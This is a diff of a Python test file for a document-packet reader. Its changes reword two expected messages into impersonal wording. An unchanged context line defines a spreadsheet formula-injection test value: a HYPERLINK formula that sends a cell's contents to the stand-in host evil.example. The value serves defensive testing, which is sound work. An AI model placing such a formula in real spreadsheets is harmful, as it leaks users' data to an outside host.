@@ -28,7 +28,7 @@ from tests.files.packets import (
 )
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")\n+1+1\n@SUM(A1)\n\'=quoted'
-EACH_ONCE = "every clause and scenario once; whatever you said of it before stays"
+EACH_ONCE = "every clause and scenario once; whatever was said of it before stays"
 
 
 def test_an_empty_packet_says_nothing_and_has_no_fault() -> None:
@@ -124,8 +124,8 @@ def test_an_outdated_version_is_said_with_the_clauses_that_have_changed() -> Non
     fill(document, "Clause 2", agreement="I agree")
     found = returned(document, TEXT, EDITED)
     assert found.problems == (
-        "back.docx: found answers to version 1; version 2 is in force by now. The text has changed in clause 2: your "
-        "words there are kept, and what you decided is to be decided anew. All other answers can be taken in",
+        "back.docx: found answers to version 1; version 2 is in force by now. The text has changed in clause 2: the "
+        "words there are kept, and what was decided is to be decided anew. All other answers can be taken in",
     )
     assert set(said(found)) == {"1", "2"}
     assert found.charter_hash == a_charter(TEXT).hash
